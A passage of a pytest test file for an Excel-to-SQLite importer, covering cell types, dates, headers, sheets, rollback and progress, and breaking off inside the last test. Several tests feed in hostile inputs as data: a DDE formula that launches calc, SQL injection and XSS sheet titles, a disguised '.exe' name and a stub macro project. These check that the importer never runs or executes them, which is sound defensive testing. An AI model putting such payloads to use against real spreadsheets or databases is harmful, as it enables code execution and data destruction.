"""Tests for sift.formats.xlsx (with xlsx_cells and xlsx_table): Excel workbooks into tables.

Workbooks are generated here: with openpyxl (write mode) for the ordinary path, and part by
part (``build_xlsx``) where a test needs exact control of the XML.
"""

from __future__ import annotations

import datetime
import io
import re
import sqlite3
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from xml.sax.saxutils import escape, quoteattr

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from sift.errors import LoadError
from sift.formats import xlsx
from sift.formats.xlsx import SheetReport, import_xlsx
from sift.formats.xlsx_cells import column_letters
from sift.names import quote_ident

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
MIB = 1024 * 1024

# cellXfs: 0 general, 1 date (14), 2 datetime (22), 3 duration [h]:mm:ss (46), 4 time (21)
STYLES = (
    f'<styleSheet xmlns="{NS}"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="5"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="22"/>'
    '<xf numFmtId="46"/><xf numFmtId="21"/></cellXfs></styleSheet>'
)
DATE, DATETIME, DURATION, TIME_OF_DAY = 1, 2, 3, 4


# Building workbooks part by part


def build_xlsx(
    sheets: list[tuple[str, str]],
    *,
    strings: list[str] | str | None = None,
    styles: str | None = STYLES,
    date1904: bool = False,
    states: dict[str, str] | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A workbook whose sheets have the given titles and XML. A sheet's XML is either a whole
    document (starting with "<") or the inside of <sheetData> (starting with "<row")."""
    parts: dict[str, bytes] = {}
    overrides = [
        (
            "/xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        )
    ]
    sheet_entries, relations = [], []
    for number, (title, xml) in enumerate(sheets, start=1):
        if xml.startswith("<row") or not xml:
            xml = f'<worksheet xmlns="{NS}"><sheetData>{xml}</sheetData></worksheet>'
        parts[f"xl/worksheets/sheet{number}.xml"] = xml.encode()
        state = (states or {}).get(title)
        state_attr = f' state="{state}"' if state else ""
        sheet_entries.append(
            f'<sheet name={quoteattr(title)} sheetId="{number}"{state_attr} r:id="rId{number}"/>'
        )
        relations.append(
            f'<Relationship Id="rId{number}" Type="{RELS}/worksheet"'
            f' Target="worksheets/sheet{number}.xml"/>'
        )
        overrides.append(
            (
                f"/xl/worksheets/sheet{number}.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            )
        )
    if strings is not None:
        if isinstance(strings, list):
            items = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
            strings = f'<sst xmlns="{NS}">{items}</sst>'
        parts["xl/sharedStrings.xml"] = strings.encode()
        relations.append(
            f'<Relationship Id="rIdS" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
        overrides.append(
            (
                "/xl/sharedStrings.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            )
        )
    if styles is not None:
        parts["xl/styles.xml"] = styles.encode()
    properties = '<workbookPr date1904="1"/>' if date1904 else ""
    parts["xl/workbook.xml"] = (
        f'<workbook xmlns="{NS}" xmlns:r="{RELS}">{properties}'
        f"<sheets>{''.join(sheet_entries)}</sheets></workbook>"
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = (
        f'<Relationships xmlns="{PKG}">{"".join(relations)}</Relationships>'
    ).encode()
    parts["_rels/.rels"] = (
        f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{RELS}/officeDocument"'
        ' Target="xl/workbook.xml"/></Relationships>'
    ).encode()
    override_xml = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides
    )
    parts["[Content_Types].xml"] = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f"{override_xml}</Types>"
    ).encode()
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def row(number: int | None, *cells: str) -> str:
    r = f' r="{number}"' if number is not None else ""
    return f"<row{r}>{''.join(cells)}</row>"


def text(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def num(ref: str, value: object, style: int | None = None) -> str:
    s = f' s="{style}"' if style is not None else ""
    return f'<c r="{ref}"{s}><v>{value}</v></c>'


def cell(ref: str, kind: str, inner: str) -> str:
    return f'<c r="{ref}" t="{kind}">{inner}</c>'


def header(*names: str) -> str:
    return row(1, *(text(f"{column_letters(i)}1", name) for i, name in enumerate(names)))


def from_openpyxl(fill: Callable[[openpyxl.Workbook], None]) -> bytes:
    book = openpyxl.Workbook()
    fill(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """``data`` with parts replaced (bytes), removed (None) or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            if entry.filename not in changes:
                target.writestr(entry.filename, source.read(entry.filename))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content)
    return out.getvalue()


def read_part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


# Running the importer


class Allocator:
    """A stand-in for the caller's name allocator: safe, unique, and it records each hint."""

    def __init__(self) -> None:
        self.hints: list[str] = []
        self._used: set[str] = set()

    def __call__(self, hint: str) -> str:
        self.hints.append(hint)
        base = re.sub(r"[^A-Za-z0-9_]+", "_", hint).strip("_") or "t"
        name, n = base, 1
        while name.lower() in self._used:
            n += 1
            name = f"{base}_{n}"
        self._used.add(name.lower())
        return name


@pytest.fixture
def conn() -> Iterator[sqlite3.Connection]:
    with closing(sqlite3.connect(":memory:", isolation_level=None)) as connection:
        yield connection


def load(
    data: bytes, conn: sqlite3.Connection, name: str = "book.xlsx", **options: object
) -> list[SheetReport]:
    return import_xlsx(conn, Allocator(), io.BytesIO(data), source=name, **options)  # type: ignore[arg-type]


def load_one(data: bytes, conn: sqlite3.Connection) -> tuple[SheetReport, list[tuple[object, ...]]]:
    (report,) = load(data, conn)
    return report, rows_of(conn, report.table)


def rows_of(conn: sqlite3.Connection, table: str) -> list[tuple[object, ...]]:
    return conn.execute(f"SELECT * FROM {quote_ident(table)} ORDER BY rowid").fetchall()


def declared_types(conn: sqlite3.Connection, table: str) -> list[str]:
    return [info[2] for info in conn.execute(f"PRAGMA table_info({quote_ident(table)})")]


def table_names(conn: sqlite3.Connection) -> list[str]:
    return [name for (name,) in conn.execute("SELECT name FROM sqlite_master ORDER BY rowid")]


def load_error(
    data: bytes, name: str = "book.xlsx", conn: sqlite3.Connection | None = None
) -> LoadError:
    with closing(sqlite3.connect(":memory:", isolation_level=None)) as own:
        connection = conn or own
        before = table_names(connection)
        with pytest.raises(LoadError) as caught:
            import_xlsx(connection, Allocator(), io.BytesIO(data), source=name)
        assert table_names(connection) == before  # nothing half-written
    assert caught.value.source == name
    assert caught.value.hint
    return caught.value


# Values and column types


def test_each_kind_of_cell_gets_its_column_type(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "Sheet1",
                header("int", "real", "flag", "day", "moment", "clock", "word", "iso")
                + row(
                    2,
                    num("A2", 1),
                    num("B2", 2.5),
                    cell("C2", "b", "<v>1</v>"),
                    num("D2", 45352, DATE),
                    num("E2", 45352.75, DATETIME),
                    num("F2", 0.5, TIME_OF_DAY),
                    cell("G2", "s", "<v>0</v>"),
                    cell("H2", "d", "<v>2024-03-01T10:00:00</v>"),
                )
                + row(
                    3,
                    num("A3", -7),
                    num("B3", 3),
                    cell("C3", "b", "<v>0</v>"),
                    num("D3", 1, DATE),
                    num("E3", 45353, DATETIME),
                    num("F3", 0.25, TIME_OF_DAY),
                    cell("G3", "str", "<f>A1</f><v>007</v>"),
                    cell("H3", "d", "<v>2024-03-02T00:00:00</v>"),
                ),
            )
        ],
        strings=["Zoë"],
    )
    report, rows = load_one(data, conn)
    assert report.types == [
        "INTEGER",
        "REAL",
        "BOOLEAN",
        "DATE",
        "DATETIME",
        "TEXT",  # times of day: sift.column_types has no TIME
        "TEXT",
        "DATETIME",
    ]
    assert declared_types(conn, report.table) == report.types
    assert rows == [
        (1, 2.5, 1, "2024-03-01", "2024-03-01 18:00:00", "12:00:00", "Zoë", "2024-03-01 10:00:00"),
        (-7, 3.0, 0, "1900-01-01", "2024-03-02 00:00:00", "06:00:00", "007", "2024-03-02 00:00:00"),
    ]
    assert report.rows == 2
    assert report.columns == ["int", "real", "flag", "day", "moment", "clock", "word", "iso"]
    assert report.warnings == []


def test_a_float_without_fraction_counts_as_an_integer(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("n", "x")
                + row(2, num("A2", "3.0"), num("B2", "2.50"))
                + row(3, num("A3", 4), num("B3", "1E2")),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["INTEGER", "REAL"]
    assert rows == [(3, 2.5), (4, 100.0)]
    assert isinstance(rows[0][0], int)


def test_a_mixed_column_is_text_with_each_value_written_as_excel_shows_it(
    conn: sqlite3.Connection,
) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("mixed")
                + row(2, num("A2", 5))
                + row(3, num("A3", 0.1))
                + row(4, cell("A4", "b", "<v>1</v>"))
                + row(5, num("A5", 45352, DATE))
                + row(6, text("A6", "n/a"))
                + row(7, num("A7", "1e20")),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["TEXT"]
    assert rows == [("5",), ("0.1",), ("TRUE",), ("2024-03-01",), ("n/a",), ("1e+20",)]


def test_dates_with_and_without_time_make_a_datetime_column(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("when")
                + row(2, num("A2", 45352, DATE))
                + row(3, num("A3", "45352.5", DATETIME)),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["DATETIME"]
    assert rows == [("2024-03-01 00:00:00",), ("2024-03-01 12:00:00",)]


def test_durations_are_text_as_excel_shows_them(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("took")
                + row(2, num("A2", "1.1041666666666667", DURATION))
                + row(3, num("A3", "-0.5", DURATION)),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["TEXT"]
    assert rows == [("26:30:00",), ("-12:00:00",)]


def test_dates_written_by_openpyxl_come_back_as_dates(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["day", "moment"])
        sheet.append([datetime.date(2024, 2, 29), datetime.datetime(2024, 2, 29, 23, 59, 58)])
        sheet.append([datetime.date(1999, 12, 31), datetime.datetime(2000, 1, 1, 0, 0, 0, 500_000)])

    report, rows = load_one(from_openpyxl(fill), conn)
    assert report.types == ["DATE", "DATETIME"]
    assert rows == [
        ("2024-02-29", "2024-02-29 23:59:58"),
        ("1999-12-31", "2000-01-01 00:00:00.500"),
    ]


@pytest.mark.parametrize(
    ("date1904", "expected"),
    [(False, ("1900-01-01", "2024-03-01")), (True, ("1904-01-02", "2028-03-02"))],
)
def test_the_1904_date_system(
    conn: sqlite3.Connection, date1904: bool, expected: tuple[str, str]
) -> None:
    data = build_xlsx(
        [("S", header("a", "b") + row(2, num("A2", 1, DATE), num("B2", 45352, DATE)))],
        date1904=date1904,
    )
    _, rows = load_one(data, conn)
    assert rows == [expected]


def test_a_1904_workbook_written_by_openpyxl_keeps_its_dates(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        book.epoch = CALENDAR_MAC_1904
        sheet = book.active
        assert sheet is not None
        sheet.append(["day"])
        sheet.append([datetime.datetime(2024, 3, 1)])
        sheet.append([datetime.datetime(1910, 5, 6, 7, 8, 9)])

    data = from_openpyxl(fill)
    assert 'date1904="1"' in read_part(data, "xl/workbook.xml")
    report, rows = load_one(data, conn)
    assert report.types == ["DATETIME"]
    assert rows == [("2024-03-01 00:00:00",), ("1910-05-06 07:08:09",)]


def test_a_date_serial_out_of_range_stays_a_number_with_a_warning(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [("S", header("when") + row(2, num("A2", 45352, DATE)) + row(3, num("A3", "1e12", DATE)))]
    )
    report, rows = load_one(data, conn)
    assert rows == [("2024-03-01",), ("1000000000000",)]
    assert report.warnings == [
        "Sheet 'S': 1 cell formatted as dates held numbers outside the range of dates and was"
        " kept as numbers; the first is A3."
    ]


def test_odd_numbers(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("big", "nan", "junk")
                + row(2, num("A2", "123456789012345678901234"), num("B2", "NaN"), num("C2", "abc"))
                + row(3, num("A3", "1.5"), num("B3", 1), num("C3", "")),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["REAL", "INTEGER", "TEXT"]
    assert rows == [(1.2345678901234568e23, None, "abc"), (1.5, 1, None)]


def test_booleans_spelled_out_and_unknown(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("a")
                + row(2, cell("A2", "b", "<v>true</v>"))
                + row(3, cell("A3", "b", "<v>maybe</v>")),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert report.types == ["TEXT"]
    assert rows == [("TRUE",), ("maybe",)]


def test_error_cells_become_null_and_are_counted(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("a", "b")
                + row(2, cell("A2", "e", "<f>1/0</f><v>#DIV/0!</v>"), num("B2", 1))
                + row(3, cell("A3", "e", "<v>#REF!</v>"), num("B3", 2))
                + row(4, cell("A4", "e", "<v>#REF!</v>"), num("B4", 3)),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert rows == [(None, 1), (None, 2), (None, 3)]
    assert report.warnings == [
        "Sheet 'S': 3 cells held an Excel error (#DIV/0!, #REF!) and were left empty; the first"
        " is A2."
    ]


def test_errors_written_by_openpyxl(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["a"])
        sheet.append(["#N/A"])
        sheet.append(["ok"])

    report, rows = load_one(from_openpyxl(fill), conn)
    assert rows == [(None,), ("ok",)]
    assert "1 cell held an Excel error (#N/A) and was left empty" in report.warnings[0]


def test_formulas_are_never_evaluated_the_saved_result_is_used(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("sum", "link", "cmd", "empty")
                + row(
                    2,
                    '<c r="A2"><f>1+1</f><v>5</v></c>',
                    '<c r="B2" t="str"><f>HYPERLINK("http://x.example","x")</f><v>x</v></c>',
                    '<c r="C2" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>',
                    '<c r="D2" t="str"><f>""</f><v></v></c>',
                ),
            )
        ]
    )
    report, rows = load_one(data, conn)
    assert rows == [(5, "x", "0", None)]
    assert report.warnings == []


def test_formulas_without_a_saved_result_are_null_with_a_warning(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["a", "b"])
        sheet.append([1, "=A2*2"])
        sheet.append([2, "=A3*2"])

    data = from_openpyxl(fill)
    report, rows = load_one(data, conn)
    assert rows == [(1, None), (2, None)]
    assert report.warnings == [
        "Sheet 'Sheet': 2 cells had a formula without a saved result and were left empty (Sift"
        " never calculates formulas); the first is B2. Open the workbook in Excel and save it to"
        " store the results.",
    ]


def test_shared_and_array_formulas_use_their_cached_values(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            (
                "S",
                header("a")
                + row(2, '<c r="A2"><f t="shared" ref="A2:A3" si="0">ROW()</f><v>2</v></c>')
                + row(3, '<c r="A3"><f t="shared" si="0"/><v>3</v></c>')
                + row(4, '<c r="A4"><f t="array" ref="A4">SUM(A2:A3)</f><v>5</v></c>'),
            )
        ]
    )
    _, rows = load_one(data, conn)
    assert rows == [(2,), (3,), (5,)]


# Strings


def test_rich_text_phonetic_guides_and_escapes_in_shared_strings(conn: sqlite3.Connection) -> None:
    strings = (
        f'<sst xmlns="{NS}"><si><t>name</t></si>'
        '<si><r><t>Hel</t></r><r><rPr><b/></rPr><t xml:space="preserve">lo </t></r>'
        '<rPh sb="0" eb="1"><t>ハロ</t></rPh></si>'
        "<si><t>a_x000D_b_x005F_x0041_ and _xD800_</t></si>"
        "<si><t></t></si></sst>"
    )
    data = build_xlsx(
        [
            (
                "S",
                row(1, cell("A1", "s", "<v>0</v>"))
                + row(2, cell("A2", "s", "<v>1</v>"))
                + row(3, cell("A3", "s", "<v>2</v>"))
                + row(4, cell("A4", "s", "<v>3</v>")),
            )
        ],
        strings=strings,
    )
    _, rows = load_one(data, conn)
    assert rows == [("Hello ",), ("a\rb_x0041_ and _xD800_",)]  # an empty string is blank


def test_inline_rich_text(conn: sqlite3.Connection) -> None:
    inline = (
        '<c r="A2" t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r><rPh><t>x</t></rPh></is></c>'
    )
    _, rows = load_one(build_xlsx([("S", header("h") + row(2, inline))]), conn)
    assert rows == [("ab",)]


def test_a_prefixed_namespace_is_read(conn: sqlite3.Connection) -> None:
    sheet = (
        f'<x:worksheet xmlns:x="{NS}"><x:sheetData><x:row r="1"><x:c r="A1" t="inlineStr">'
        '<x:is><x:t>h</x:t></x:is></x:c></x:row><x:row r="2"><x:c r="A2"><x:v>4</x:v></x:c>'
        "</x:row></x:sheetData></x:worksheet>"
    )
    report, rows = load_one(build_xlsx([("S", sheet)]), conn)
    assert report.columns == ["h"]
    assert rows == [(4,)]


def test_cells_and_rows_without_references_follow_each_other(conn: sqlite3.Connection) -> None:
    sheet = row(None, text("A1", "a"), text("B1", "b")) + row(
        None, "<c><v>1</v></c>", "<c><v>2</v></c>"
    )
    sheet += row(None, '<c r="b3"><v>3</v></c>')  # lower-case reference
    _, rows = load_one(build_xlsx([("S", sheet)]), conn)
    assert rows == [(1, 2), (None, 3)]


# Header and shape


def test_header_is_the_first_row_with_a_value_and_blank_names_get_column_n(
    conn: sqlite3.Connection,
) -> None:
    sheet = (
        row(1, '<c r="A1" s="1"/>')  # formatted but empty
        + row(3, text("B3", "name"), text("D3", "name"), text("E3", "  "), num("F3", 2024))
        + row(4, text("B4", "x"), num("C4", 1), num("D4", 2), num("E4", 3), num("F4", 4))
    )
    report, rows = load_one(build_xlsx([("S", sheet)]), conn)
    # Column A (no header, no values) is left out; C and E are named after their position.
    assert report.columns == ["name", "column_3", "name_2", "column_5", "2024"]
    assert rows == [("x", 1, 2, 3, 4)]
    assert report.warnings == [
        "Sheet 'S': named 3 columns whose header cell was empty, merged or repeated: column_3,"
        " name_2, column_5."
    ]


def test_rows_wider_than_the_header_keep_their_values(conn: sqlite3.Connection) -> None:
    sheet = header("a") + row(2, num("A2", 1)) + row(3, num("A3", 2), num("C3", 3))
    report, rows = load_one(build_xlsx([("S", sheet)]), conn)
    assert report.columns == ["a", "column_3"]
    assert rows == [(1, None), (2, 3)]


def test_width_grows_while_streaming_past_a_batch(
    conn: sqlite3.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "FLUSH_CELLS", 10)
    sheet = header("a") + "".join(row(n, num(f"A{n}", n)) for n in range(2, 200))
    sheet += row(200, num("A200", 200), num("E200", 5))
    report, rows = load_one(build_xlsx([("S", sheet)]), conn)
    assert report.columns == ["a", "column_5"]
    assert rows[0] == (2, None)
    assert rows[-1] == (200, 5)
    assert len(rows) == 199


def test_a_header_merged_across_columns_names_them_all(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["id", "Q1", None, None, "total"])
        sheet.append([1, 10, 11, 12, 33])
        sheet.merge_cells("B1:D1")
        sheet.merge_cells("A2:A3")  # merges below the header do not matter

    report, rows = load_one(from_openpyxl(fill), conn)
    assert report.columns == ["id", "Q1", "Q1_2", "Q1_3", "total"]
    assert rows == [(1, 10, 11, 12, 33)]


def test_a_header_without_rows_gives_an_empty_table(conn: sqlite3.Connection) -> None:
    report, rows = load_one(build_xlsx([("S", header("a", "b"))]), conn)
    assert (report.columns, report.types, rows) == (["a", "b"], ["TEXT", "TEXT"], [])
    assert report.warnings == ["Sheet 'S': the header (row 1) has no rows below it."]


def test_blank_rows_between_rows_are_skipped_and_counted(conn: sqlite3.Connection) -> None:
    sheet = header("a") + row(2, num("A2", 1)) + row(3, '<c r="A3" s="1"/>') + row(6, num("A6", 2))
    report, rows = load_one(build_xlsx([("S", sheet)]), conn)
    assert rows == [(1,), (2,)]
    assert report.warnings == ["Sheet 'S': skipped 3 blank rows between rows."]


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", "A1:B1", "A1", "garbage"])
def test_the_declared_dimension_is_never_trusted(conn: sqlite3.Connection, dimension: str) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["a", "b"])
        for n in range(3000):
            sheet.append([n, f"v{n}"])

    data = from_openpyxl(fill)
    sheet_xml = read_part(data, "xl/worksheets/sheet1.xml")
    assert '<dimension ref="A1:B3001" />' in sheet_xml
    data = rezip(
        data, {"xl/worksheets/sheet1.xml": sheet_xml.replace("A1:B3001", dimension).encode()}
    )
    report, rows = load_one(data, conn)
    assert report.columns == ["a", "b"]
    assert report.rows == len(rows) == 3000
    assert rows[-1] == (2999, "v2999")


def test_exactly_2000_columns_load(conn: sqlite3.Connection) -> None:
    sheet = row(1, *(num(f"{column_letters(i)}1", i) for i in range(2000)))
    sheet += row(2, num("BXX2", 1), '<c r="XFD2" s="1"/>')  # a formatted empty cell far right
    report, rows = load_one(build_xlsx([("Wide", sheet)]), conn)
    assert len(report.columns) == 2000
    assert rows[0][1999] == 1


def test_a_sheet_wider_than_sqlite_allows_is_refused_by_name() -> None:
    sheet = header("a") + row(7, num("A7", 1), num(f"{column_letters(2000)}7", 2))
    error = load_error(build_xlsx([("Fine", header("x")), ("Wide", sheet)]))
    assert error.message == (
        "book.xlsx: sheet 'Wide' has data in column BXY (row 7), so it is 2,001 columns wide;"
        " this version of SQLite allows at most 2,000 columns."
    )


# Sheets and tables


def test_every_sheet_becomes_a_table_named_by_the_allocator(conn: sqlite3.Connection) -> None:
    allocate = Allocator()
    data = build_xlsx(
        [
            ("First", header("a") + row(2, num("A2", 1))),
            ("Second", header("b") + row(2, num("A2", 2))),
        ]
    )
    reports = import_xlsx(conn, allocate, io.BytesIO(data), source="dir/Sales 2024.xlsx")
    assert allocate.hints == ["Sales 2024_First", "Sales 2024_Second"]
    assert [report.table for report in reports] == ["Sales_2024_First", "Sales_2024_Second"]
    assert [report.sheet for report in reports] == ["First", "Second"]
    assert table_names(conn) == ["Sales_2024_First", "Sales_2024_Second"]  # no staging left
    assert reports[1].to_dict() == {
        "table": "Sales_2024_Second",
        "rows": 1,
        "columns": ["b"],
        "warnings": [],
        "encoding": "",
        "delimiter": "",
        "sheet": "Second",
        "types": ["INTEGER"],
    }


HOSTILE_TITLES = [
    "<img src=x onerror=alert(1)>",
    'x"); DROP TABLE t; --',
    "'; DELETE FROM sqlite_master; --",
    "\u202egnp.exe",
    "sift xlsx staging",
    "a]b",
]


def test_hostile_sheet_titles_are_data_never_sql(conn: sqlite3.Connection) -> None:
    conn.execute("CREATE TABLE t (x)")
    allocate = Allocator()
    sheets = [(title, header("a") + row(2, num("A2", n))) for n, title in enumerate(HOSTILE_TITLES)]
    reports = import_xlsx(conn, allocate, io.BytesIO(build_xlsx(sheets)), source="book.xlsx")
    assert [report.sheet for report in reports] == HOSTILE_TITLES
    assert allocate.hints == [f"book_{title}" for title in HOSTILE_TITLES]
    assert [rows_of(conn, report.table) for report in reports] == [
        [(n,)] for n in range(len(HOSTILE_TITLES))
    ]
    assert "t" in table_names(conn)


def test_a_hostile_title_appears_as_text_in_the_warnings(conn: sqlite3.Connection) -> None:
    title = "<script>alert('x')</script>"
    (report,) = load(build_xlsx([(title, header("a", "a") + row(2, num("A2", 1)))]), conn)
    assert report.warnings[0].startswith("Sheet \"<script>alert('x')</script>\": named 1 column")


def test_a_staging_name_already_taken_is_avoided(conn: sqlite3.Connection) -> None:
    conn.execute('CREATE TABLE "sift xlsx staging" (x)')
    conn.execute("INSERT INTO \"sift xlsx staging\" VALUES ('mine')")
    (report,) = load(build_xlsx([("S", header("a") + row(2, num("A2", 1)))]), conn)
    assert rows_of(conn, report.table) == [(1,)]
    assert rows_of(conn, "sift xlsx staging") == [("mine",)]


def test_empty_hidden_chart_and_missing_sheets(conn: sqlite3.Connection) -> None:
    data = build_xlsx(
        [
            ("Empty", ""),
            ("Data", header("a") + row(2, num("A2", 1))),
            ("Secret", header("s") + row(2, num("A2", 2))),
        ],
        states={"Secret": "hidden"},
    )
    workbook = read_part(data, "xl/workbook.xml").replace(
        "</sheets>",
        '<sheet name="Chart" sheetId="9" r:id="rIdC"/>'
        '<sheet name="Gone" sheetId="10" r:id="rIdG"/></sheets>',
    )
    rels = read_part(data, "xl/_rels/workbook.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdC" Type="{RELS}/chartsheet" Target="chartsheets/sheet1.xml"/>'
        f'<Relationship Id="rIdG" Type="{RELS}/worksheet" Target="worksheets/gone.xml"/>'
        "</Relationships>",
    )
    data = rezip(
        data,
        {
            "xl/workbook.xml": workbook.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/chartsheets/sheet1.xml": b"<chartsheet/>",
        },
    )
    reports = load(data, conn)
    assert [report.sheet for report in reports] == ["Data", "Secret"]
    assert reports[0].warnings == [
        "Sheet 'Chart' is a chart sheet; skipped.",
        "Sheet 'Gone' is listed in the workbook but missing; skipped.",
        "Sheet 'Empty' is empty; no table was made for it.",
    ]
    assert reports[1].warnings == ["Sheet 'Secret' is hidden in the workbook."]


def test_a_workbook_with_only_empty_sheets_is_refused() -> None:
    error = load_error(build_xlsx([("A", ""), ("B", row(1, '<c r="A1" s="1"/>'))]))
    assert error.message == "book.xlsx holds no data: every sheet is empty."


def test_a_workbook_without_styles_or_shared_strings(conn: sqlite3.Connection) -> None:
    data = build_xlsx([("S", header("a") + row(2, num("A2", 45352, DATE)))], styles=None)
    _, rows = load_one(data, conn)
    assert rows == [(45352,)]  # without styles no cell is a date


def test_xlsm_macros_are_never_run(conn: sqlite3.Connection) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["a"])
        sheet.append([1])

    data = from_openpyxl(fill)
    types = read_part(data, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert "macroEnabled" in types
    data = rezip(
        data,
        {"[Content_Types].xml": types.encode(), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
    )
    _, rows = load_one(data, conn)
    assert rows == [(1,)]


# All or nothing


def test_an_error_in_a_later_sheet_leaves_no_table(conn: sqlite3.Connection) -> None:
    conn.execute("CREATE TABLE earlier (x)")
    data = build_xlsx(
        [("Good", header("a") + row(2, num("A2", 1))), ("Bad", header("a") + "<row r=")]
    )
    error = load_error(data, conn=conn)
    assert error.message.startswith(
        "book.xlsx: the XML of sheet 'Bad' is malformed at line 1, column"
    )
    assert table_names(conn) == ["earlier"]


class Cancelled(Exception):
    pass


def test_cancel_through_progress_leaves_no_table(conn: sqlite3.Connection) -> None:
    sheet = header("a", "b") + "".join(
        row(n, num(f"A{n}", n), text(f"B{n}", f"v{n}")) for n in range(2, 20_000)
    )
    data = build_xlsx([("One", header("x") + row(2, num("A2", 1))), ("Two", sheet)])
    seen: list[int] = []

    def progress(rows: int, _bytes: int) -> None:
        seen.append(rows)
        if rows > 5000:
            raise Cancelled

    with pytest.raises(Cancelled):
        load(data, conn, progress=progress)
    assert table_names(conn) == []
    assert conn.execute("SELECT count(*) FROM sqlite_temp_master").fetchone() == (0,)


def test_an_import_inside_an_open_transaction(conn: sqlite3.Connection) -> None:
    with closing(sqlite3.connect(":memory:")) as legacy:  # Python's implicit transactions
        legacy.execute("CREATE TABLE before (x)")
        legacy.execute("INSERT INTO before VALUES (1)")
        assert legacy.in_transaction
        (report,) = load(build_xlsx([("S", header("a") + row(2, num("A2", 1)))]), legacy)
        legacy.commit()
        assert rows_of(legacy, report.table) == [(1,)]
        assert rows_of(legacy, "before") == [(1,)]


def test_the_sql_function_for_text_columns_is_disabled_afterwards(conn: sqlite3.Connection) -> None:
    load(build_xlsx([("S", header("a") + row(2, num("A2", 0.5)) + row(3, text("A3", "x")))]), conn)
    # Python 3.11 cannot unregister a function: passing None leaves one that always fails.
    with pytest.raises(sqlite3.OperationalError):
        conn.execute("SELECT sift_xlsx_real_text(1.5)")


# Progress


def test_progress_reports_rows_and_reaches_the_file_size(conn: sqlite3.Connection) -> None:
    sheet = header("a", "b", "c") + "".join(
